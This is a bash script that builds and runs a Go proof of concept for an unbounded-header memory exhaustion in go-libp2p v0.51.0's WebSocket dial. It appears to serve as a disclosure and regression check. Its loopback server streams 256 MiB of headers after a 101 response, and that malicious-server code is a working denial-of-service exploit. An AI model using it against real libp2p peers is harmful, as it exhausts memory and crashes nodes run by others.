#!/usr/bin/env bash
# go-libp2p v0.51.0 (gorilla/websocket v1.5.3): a WebSocket dial keeps headers without end
#
# The transport gives a WebSocket 15 s to open and reads the server's answer with
# http.ReadResponse, which has no limit for headers, and keeps them. A server that sends
# headers for 15 s fills as much memory as the line carries.
#
# Seen (a server on loopback that sends 256 MiB of headers and then nothing):
#   268435456 bytes were taken, and the heap has 347 MiB
#
# Exits 0 while this is so, 1 once it is not, 2 if it could not be tried. Needs Go.
set -euo pipefail
dir=$(mktemp -d)
trap 'rm -rf "$dir"' EXIT
cd "$dir"
cat >go.mod <<'MOD'
module finding

go 1.25

require (
	github.com/libp2p/go-libp2p v0.51.0
	github.com/multiformats/go-multiaddr v0.16.1
)
MOD
cat >main.go <<'GO'
package main

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"runtime"

	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/test"
	"github.com/libp2p/go-libp2p/p2p/transport/websocket"
	"github.com/multiformats/go-multiaddr"
)

const size = 256 << 20

func try(err error) {
	if err != nil {
		fmt.Println("could not be tried:", err)
		os.Exit(2)
	}
}

func main() {
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	try(err)
	taken := make(chan int, 1)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go func() {
		c, err := l.Accept()
		try(err)
		n, _ := c.Write([]byte("HTTP/1.1 101 Switching Protocols\r\n"))
		header := bytes.Repeat([]byte("X: 0123456789abcdef0123456789abcdef\r\n"), 1<<15)
		for n = 0; n < size; {
			m, err := c.Write(header[:min(len(header), size-n)])
			if n += m; err != nil {
				break
			}
		}
		taken <- n
	}()
	transport, err := websocket.New(nil, &network.NullResourceManager{}, nil)
	try(err)
	id, err := test.RandPeerID()
	try(err)
	go func() {
		_, err := transport.Dial(ctx, multiaddr.StringCast(fmt.Sprintf("/ip4/127.0.0.1/tcp/%d/ws", l.Addr().(*net.TCPAddr).Port)), id)
		fmt.Println("the dial ends:", err)
	}()
	n := <-taken
	var m runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m)
	fmt.Printf("%d bytes were taken, and the heap has %d MiB\n", n, m.HeapAlloc>>20)
	if n < size {
		os.Exit(1)
	}
}
GO
go mod tidy >/dev/null 2>&1 || { echo "could not be tried: go mod tidy" >&2; exit 2; }
go build -o finding . || exit 2
./finding
